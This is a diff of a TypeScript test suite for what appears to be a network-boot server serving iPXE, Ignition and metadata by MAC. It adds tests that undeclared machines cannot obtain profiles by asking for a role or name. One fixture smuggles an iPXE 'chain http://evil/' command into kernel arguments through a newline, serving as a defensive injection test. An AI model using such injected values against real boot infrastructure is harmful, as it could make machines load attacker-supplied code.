@@ -35,6 +35,7 @@ const CASES: Readonly<Record<string, object>> = {
   "line-break": { boot: { kernel: "/assets/vmlinuz", args: ["one\nchain http://evil/"] } },
 };
 const NAMES = [...Object.keys(CASES), "no-profile"];
+const UNDECLARED = "52:54:00:99:00:fe";
 const REPORTER = { machine: "good", mac: "52:54:00:99:00:00" };
 
 function macOf(name: string): string {
@@ -53,6 +54,9 @@ function files(): Record<string, string | object> {
   const profiles = Object.entries(CASES).map(([name, profile]) => [`data/profiles/${name}.json`, profile]);
   return {
     ...(Object.fromEntries([...machines, ...groups, ...profiles]) as Record<string, object>),
+    // For nobody who is declared here: only somebody who asks for it could get it.
+    "data/groups/gateways.json": { profile: "good", selector: { role: "gateway" } },
+    "data/groups/by-name.json": { profile: "good", selector: { name: "good" }, metadata: { room: "r7" } },
     "data/ignition/good.yaml": GOOD_IGNITION,
     "data/ignition/unknown-variable.yaml":
       "ignition:\n  version: 3.3.0\nstorage:\n  files:\n    - path: /{{machine.rack}}\n",
@@ -130,6 +134,11 @@ describe.skipIf(needs.skip)(`what a machine asks for over HTTP${needs.note}`, ()
     ],
     ["a MAC that nobody has declared", "/ignition?mac=52:54:00:99:00:fe", 404, /^no-group: /],
     ["a MAC that nobody has declared", "/metadata?mac=52:54:00:99:00:fe", 404, /^no-group: /],
+    ["a role that an undeclared machine asks for", `/ignition?mac=${UNDECLARED}&role=gateway`, 404, /^no-group: /],
+    ["a role that an undeclared machine asks for", `/ipxe?mac=${UNDECLARED}&role=gateway`, 404, /^no-group: /],
+    ["a role that nobody in particular asks for", "/ignition?role=gateway", 404, /^no-group: /],
+    ["a role that another machine asks for", `/metadata?mac=${macOf("no-profile")}&role=gateway`, 404, /^no-profile: /],
+    ["a name that an undeclared machine asks for", `/ignition?mac=${UNDECLARED}&name=good`, 404, /^no-group: /],
     ["a MAC that is none", "/ipxe?mac=52:54:00:99:00", 400, /^bad-mac: /],
     ["a MAC that is none", "/ignition?mac=hello", 400, /^bad-mac: /],
     ["a MAC that is none", "/metadata?mac=52:54:00:99:00:zz", 400, /^bad-mac: /],
@@ -259,7 +268,9 @@ describe.skipIf(needs.skip)(`what an agent reports${needs.note}`, () => {
       const { status, text } = await post(JSON.stringify(report));
       expect([status, text]).toEqual([204, ""]);
     }
-    expect(progress().map(({ stage }) => stage)).toEqual(["agent", "agent", "unit", "unit"]);
+    await expect
+      .poll(() => progress().map(({ stage }) => stage), { timeout: 10_000 })
+      .toEqual(["agent", "agent", "unit", "unit"]);
 
     await lab.server.kill();
     await lab.startServer();
@@ -270,7 +281,7 @@ describe.skipIf(needs.skip)(`what an agent reports${needs.note}`, () => {
     const failed = { unit: "b.service", index: 2, total: 2, outcome: "failed", seconds: 1, reason: "it broke" };
     expect((await post(JSON.stringify(started({ sequence: 5, kind: "unit-finished", ...failed })))).status).toBe(204);
     const known = { machine: "good", revision: "a".repeat(40), unitsOk: 1, unitsTotal: 2, failedUnit: "b.service" };
-    expect(progress()).toEqual([expect.objectContaining(known)]);
+    await expect.poll(progress, { timeout: 10_000 }).toEqual([expect.objectContaining(known)]);
   });
 });
 
